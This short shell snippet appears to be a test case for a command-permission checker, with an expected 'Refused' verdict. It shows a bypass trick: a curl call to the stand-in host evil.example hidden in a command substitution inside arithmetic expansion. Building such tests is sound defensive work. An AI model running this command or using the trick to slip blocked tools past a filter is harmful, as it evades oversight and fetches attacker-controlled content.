# Trick: a substitution stands in arithmetic.
# Refused: run(curl)
echo $(( $(curl -s http://evil.example/) + 1 ))
